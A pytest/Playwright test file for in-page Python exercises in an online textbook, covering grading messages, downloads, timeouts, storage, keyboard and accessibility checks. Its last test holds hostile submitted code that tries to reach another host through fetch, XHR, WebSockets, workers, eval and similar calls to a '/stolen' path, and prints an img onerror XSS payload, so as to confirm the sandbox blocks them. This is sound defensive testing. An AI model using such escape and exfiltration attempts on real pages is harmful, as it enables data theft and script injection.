"""Exercises solved in the page: what a reader writes, what the check says, what is kept, what is refused."""

import gzip
import itertools
import json
import re

import nbformat
import pytest
from playwright.sync_api import expect

from margins_book.chapters import chapters
from scripts.serving import QuietHandler, serve
from tests.book.axe import serious_faults
from tests.book.conftest import CHAPTERS, SITE
from tests.book.exercise_in_page import COLD, DAMAGE, Exercise, solution

LABEL = "svm-intercept"
PAGE, SOLUTION = solution(LABEL)
HEAD = "def intercept(alpha, X, y, C):\n"
GROWTH = 8_000  # bytes gzipped by which a page may grow
FIRST_PRESS = 9_000_000  # bytes gzipped that a first press may fetch
CODED = [file.parent.name for chapter in chapters() for file in chapter.exercises.glob("*/hidden.py")]
MOST_KEPT = 45_000_000  # bytes that the browser may keep


@pytest.fixture(scope="module")
def reader(visit):
    """A page with Python in it that has started."""
    with visit(PAGE) as page:
        page.before = list(page.asked)
        exercise = Exercise(page, LABEL).open()
        exercise.first = exercise.check()
        yield exercise


def test_nothing_is_fetched_before_a_press_and_at_most_nine_megabytes_then(reader):
    fetched = [
        {url for url in urls if "/_static/python/" in url} for urls in (reader.page.before, reader.page.asked)
    ]
    assert reader.page.before
    assert not fetched[0]
    files = [SITE / "_static/python" / url.split("/_static/python/")[1] for url in fetched[1]]
    assert {file.suffix for file in files} >= {".wasm", ".zip", ".js", ".json"}
    assert sum(len(gzip.compress(file.read_bytes(), 6)) for file in files) <= FIRST_PRESS


def test_every_coded_exercise_can_be_tried_and_its_page_grows_by_little():
    labels = []
    for text in ((SITE / path).read_text() for path in CHAPTERS):
        labels += re.findall('data-exercise="([^"]+)"', text)
        bare = re.sub(r'<div class="in-page [^>]*>.*?</div>\n?| data-python-in-page="[^"]*"', "", text)
        assert "data-python" in text
        assert len(gzip.compress(text.encode(), 6)) - len(gzip.compress(bare.encode(), 6)) <= GROWTH
    assert sorted(labels) == sorted(CODED)


def test_the_stub_says_what_is_missing(reader):
    assert reader.first == ("wrong", "Nothing is written here yet: replace the raise NotImplementedError.")
    assert reader.status.locator("code").inner_text() == "raise NotImplementedError"


def test_a_wrong_answer_is_told_what_is_wrong_and_shows_its_prints(reader):
    kind, words = reader.check(HEAD + "    print('alpha is', alpha)\n    return 0.0")
    assert kind == "wrong"
    assert words.startswith("hard margin: the answer is 0, expected -3. Hint:")
    assert reader.printed == "alpha is [0. 2. 2.]\n"


def test_an_error_is_told_with_the_reader_s_lines(reader):
    kind, words = reader.check(HEAD + "    return undefined")
    assert (kind, "NameError: name 'undefined' is not defined" in words) == ("wrong", True)
    assert reader.detail.splitlines()[0] == "  your answer, line 2, in intercept"
    kind, words = reader.check("def intercept(\n    return 1")
    assert kind == "error"
    assert words.startswith("SyntaxError")


def test_a_right_answer_is_praised_and_counted_and_its_download_is_a_notebook_that_runs(reader):
    assert reader.check(SOLUTION) == (
        "right",
        "Right: a free multiplier tells b; without one, b is the middle of an interval.",
    )
    expect(reader.page.locator("#book-panel .solved")).to_contain_text(f"1 of {len(CODED)} exercises solved")
    reader.page.locator(".contents-button").click()
    with reader.page.expect_download() as export:
        reader.page.locator(".solved").get_by_role("button", name="Export").click()
    kept = json.loads(export.value.path().read_text())
    assert kept == {"solved": [LABEL], "answers": {LABEL: SOLUTION}}
    reader.code.fill(SOLUTION)
    with reader.page.expect_download() as download:
        reader.button("Download").click()
    notebook = nbformat.read(download.value.path(), as_version=4)
    nbformat.validate(notebook)
    space = {}
    for cell in notebook.cells:
        exec(cell.source, space)


@pytest.mark.full
def test_output_memory_and_loops_without_end_are_told_and_without_a_connection_answers_are_checked(reader):
    for endless in ("print('long line ' * 100_000)", "for k in range(100_000): print(k)"):
        assert reader.check(f"{HEAD}    {endless}\n    return 0")[0] == "wrong"
        assert reader.printed.endswith("more was printed; these are the first 20000 characters\n")
        assert 20_000 < len(reader.printed) < 20_100
    kind, words = reader.check(HEAD + "    return [np.empty(2**28 - 100) for _ in range(3)]")
    assert kind == "wrong"
    assert "Unable to allocate" in words
    assert reader.check(SOLUTION)[0] == "right"
    told = reader.check(HEAD + "    while True: pass")
    assert told == ("error", "Stopped after 10 seconds. Is there a loop that never ends?")
    assert reader.check(SOLUTION)[0] == "right"
    assert reader.woken
    reader.page.context.set_offline(True)
    try:
        assert reader.check(HEAD + "    return 1.0")[0] == "wrong"
    finally:
        reader.page.context.set_offline(False)


def test_the_reader_can_stop_it(reader):
    reader.code.fill(HEAD + "    while True: pass")
    reader.button("Check").click()
    reader.page.wait_for_function(
        "() => document.querySelector('.verdict').textContent.startsWith('Running')"
    )
    reader.button("Stop").click()
    expect(reader.status).to_have_text("Stopped.")
    assert reader.check(SOLUTION)[0] == "right"


@pytest.mark.full
def test_text_is_kept_and_a_later_page_wakes_the_kept_state(reader):
    reader.check(SOLUTION)
    reader.page.reload()
    expect(reader.page.locator(".solved")).to_contain_text(f"1 of {len(CODED)}", timeout=COLD)
    expect(reader.place).to_have_class(re.compile("is-solved"))
    reader.open()
    assert reader.code.input_value() == SOLUTION
    assert reader.check()[0] == "right"
    assert reader.woken


KEPT_BYTES = """async () => {
  const store = await caches.open("python in the page"), sizes = [];
  for (const key of await store.keys()) sizes.push((await (await store.match(key)).arrayBuffer()).byteLength);
  return sizes;
}"""


def test_reset_brings_the_stub_back_and_can_be_undone_and_one_small_state_is_kept(reader):
    reader.button("Reset").click()
    assert reader.code.input_value().startswith(HEAD + '    """The intercept."""\n')
    assert reader.status.inner_text() == ""
    reader.page.keyboard.press("Control+z")
    assert reader.code.input_value() == SOLUTION
    (size,) = reader.page.evaluate(KEPT_BYTES)
    assert size <= MOST_KEPT


@pytest.mark.full
def test_a_damaged_state_is_thrown_away(reader):
    for kind in ("a byte", "cut"):
        reader.page.evaluate(DAMAGE, kind)
        reader.page.reload()
        assert reader.open().check(SOLUTION)[0] == "right"
        assert not reader.woken
        reader.page.wait_for_function(
            "caches.open('python in the page').then(store => store.keys()).then(k => k.length)"
        )


@pytest.mark.full
def test_by_keyboard_alone(reader):
    page = reader.page
    page.reload()
    reader.button("Try it here").focus()
    page.keyboard.press("Enter")
    expect(reader.code).to_be_focused()
    page.keyboard.press("Control+a")
    page.keyboard.type("def intercept(alpha, X, y, C):\nreturn 1 +\n")
    assert reader.code.input_value() == HEAD + "    return 1 +\n    "
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Tab")
    assert reader.code.input_value() == HEAD + "    return 1 +\n    "
    page.keyboard.press("Escape")
    page.keyboard.press("Tab")
    expect(reader.button("Check")).to_be_focused()
    page.keyboard.press("Shift+Tab")
    assert reader.check(press=lambda: page.keyboard.press("Control+Enter"))[0] == "error"


@pytest.mark.full
def test_the_open_exercise_is_accessible(reader):
    assert not serious_faults(reader.page, "open", f"[data-exercise={LABEL}]")
    reader.check(HEAD + "    return 0.5")
    read_out = reader.place.aria_snapshot()
    assert re.search(r'- textbox "Your answer to Exercise 1\.\d \(The intercept · code ★\)"', read_out)
    for name in ("Check", "Reset", "Download", "Draw with my code"):
        assert f'- button "{name}"' in read_out
    assert '- status: "hard margin: the answer is 0.5, expected -3. Hint: ' in read_out


@pytest.mark.full
def test_nothing_is_wider_than_a_narrow_screen(reader):
    page = reader.page
    reader.check(HEAD + f"    return {'long_name' * 12}")
    for theme, width in itertools.product(("light", "dark"), (640, 390, 320)):  # a laptop at 200 %, phones
        page.set_viewport_size({"width": width, "height": 844})
        page.emulate_media(color_scheme=theme)
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        for name in ("Check", "Reset", "Download"):
            box = reader.button(name).bounding_box()
            assert box["x"] >= 0
            assert box["x"] + box["width"] <= width


HOSTILE = (
    HEAD
    + """
    import js, pyodide_js, sys
    address = "{address}/stolen"
    def tried(way):
        try:
            way()
        except BaseException as reason:
            print(type(reason).__name__)
        else:
            print("open")
    tried(lambda: js.fetch(address))
    tried(lambda: js.XMLHttpRequest.new().open("GET", address))
    tried(lambda: js.WebSocket.new(address.replace("http", "ws")))
    tried(lambda: js.importScripts(address))
    tried(lambda: js.eval(f"import('{{address}}')"))
    tried(lambda: js.Function(f"return import('{{address}}')")())
    tried(lambda: js.setTimeout(f"import('{{address}}')", 0))
    tried(lambda: pyodide_js.runPython.constructor(f"return import('{{address}}')")())
    tried(lambda: js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)).fetch(address))
    tried(lambda: js.Worker.new("data:text/javascript,fetch('{address}')"))
    tried(lambda: js.caches.open("python in the page"))
    tried(lambda: js.indexedDB.open("x"))
    tried(lambda: js.document.body)
    tried(lambda: js.localStorage.length)
    print("<img src={address}/stolen onerror=alert(1)>")
    raise ValueError("<b>bold</b>")
"""
)


def test_hostile_code_reaches_neither_another_host_nor_the_page(reader):
    hits = []

    class Canary(QuietHandler):
        def do_GET(self):  # noqa: N802
            hits.append(self.path)
            self.send_body(b"", "text/plain", Access_Control_Allow_Origin="*")

    with serve(SITE, Canary) as elsewhere:
        kind, words = reader.check(HOSTILE.format(address=elsewhere))
        lines = reader.printed.splitlines()
        reader.page.wait_for_timeout(300)  # for a request that was not refused to arrive
    assert not hits
    assert "open" not in lines
    assert len(lines) == 15
    assert (kind, "<b>bold</b>" in words) == ("wrong", True)
    assert reader.place.locator("img, b").count() == 0
    assert lines[-1].startswith("<img")
    assert reader.check(SOLUTION)[0] == "right"
